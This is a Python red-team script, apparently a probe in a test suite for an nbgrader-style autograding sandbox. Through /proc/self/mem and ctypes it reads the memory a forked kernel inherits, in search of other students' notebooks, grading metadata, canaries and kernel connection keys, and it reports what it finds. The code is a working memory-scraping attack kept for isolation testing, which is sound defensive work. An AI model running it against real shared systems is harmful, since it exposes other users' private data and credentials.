"""Read what the zygote left in the memory this kernel inherited by fork: scan every readable
mapping of /proc/self/mem for earlier learners' traces (notebook JSON, nbgrader metadata, file
bytes streamed to the zygote, the connection keys of earlier kernels), and print what surrounds
each hit. Graded last (student id sorts after the honest learners), so earlier jobs of the same
zygote were other learners'.

Got out: another learner's submission canary, or another attack's mark, in this output.
"""
# redteam: student=zzz_rt_zygote_memory_scan
import re

own = _MARK.encode()
prefix = _MARK.rsplit("-", 1)[0].encode()
from numpy.ctypeslib import ctypes

hits, others = [], set()
try:
    mem = open("/proc/self/mem", "rb", buffering=0)
except OSError as exc:  # not dumpable after the uid change: read our own address space directly
    print("/proc/self/mem:", exc, "- reading the mappings with ctypes.string_at")
    mem = None


def read(start, size):
    if mem is not None:
        mem.seek(start)
        return mem.read(size)
    return ctypes.string_at(start, size)


with open("/proc/self/maps") as maps:
    for line in maps:
        fields = line.split()
        if not fields[1].startswith("r") or (len(fields) > 5 and fields[5].startswith(("/usr", "/root", "/work", "[v"))):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if end - start > 1 << 30:
            continue
        try:
            data = read(start, end - start)
        except (OSError, OverflowError, ValueError):
            continue
        for m in re.finditer(rb'"cell_type"|grade_id|CANARY|' + re.escape(prefix) + rb'-\w+', data):
            if m.group(0).startswith(prefix) and m.group(0) != own:
                others.add(m.group(0))
            if len(hits) < 400:
                hits.append(data[max(0, m.start() - 300): m.end() + 300])
print("other marks in memory:", sorted(others)[:20])
_leak(b"\n".join(hits), "inherited memory")
if others:
    _got_out(f"earlier learners' data in the memory inherited from the zygote: {sorted(others)[:5]}")
